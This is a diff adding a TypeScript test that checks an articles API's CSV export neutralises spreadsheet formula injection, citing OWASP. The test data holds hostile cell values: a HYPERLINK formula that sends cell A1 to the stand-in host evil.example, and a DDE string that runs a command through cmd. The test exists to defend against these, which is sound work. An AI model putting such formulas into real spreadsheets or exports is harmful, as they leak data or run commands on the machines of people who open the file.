@@ -116,6 +116,42 @@ describe.each(targets)('export on $name', (target) => {
     expect(r.body.error.code).toBe(list.body.error.code);
   });
 
+  it('CSV neutralises text that a spreadsheet would run as a formula, numbers stay numbers', async () => {
+    // Issue 24, item 6 (OWASP CSV injection): =, +, -, @, tab and CR at the start of a text cell.
+    const formulas: [number, string][] = [
+      [51, '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
+      [52, '+1+2'],
+      [53, '-2+3'],
+      [54, '@SUM(A1:A2)'],
+      [55, '\tTabbed'],
+      [56, '\r=1'],
+      [57, 'Plain - with a dash inside'],
+    ];
+    for (const [id, title] of formulas)
+      await env.knex('articles').where('id', id).update({ title, views: -id, status: 'published' });
+    await env.knex('authors').where('id', 3).update({ name: '=cmd|"/c calc"!A1' });
+    await env.knex('articles').where('id', 51).update({ author: 3 });
+    const view = 'fields=id,title,views,author.name&filter[id][between]=51,57&sort=id';
+    const r = await env.call(`/items/articles?${view}&export=csv`);
+    expect(r.status).toBe(200);
+    const [, ...lines] = parseCsv(r.body as string);
+    expect(lines.map((l) => l[1])).toEqual([
+      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "'+1+2",
+      "'-2+3",
+      "'@SUM(A1:A2)",
+      "'\tTabbed",
+      "'\r=1",
+      'Plain - with a dash inside',
+    ]);
+    // Negative numbers of a numeric column are written as numbers.
+    expect(lines.map((l) => l[2])).toEqual(['-51', '-52', '-53', '-54', '-55', '-56', '-57']);
+    expect(lines[0]![3]).toBe('\'=cmd|"/c calc"!A1');
+    // The JSON export and the API keep the values as stored.
+    const json = await env.call(`/items/articles?${view}&export=json`);
+    expect((json.body as { title: string }[])[0]!.title).toBe(formulas[0]![1]);
+  });
+
   it('bad parameters give coded JSON errors before any download starts', async () => {
     const fmt = await env.call('/items/articles?export=xlsx');
     expect(fmt.status).toBe(400);
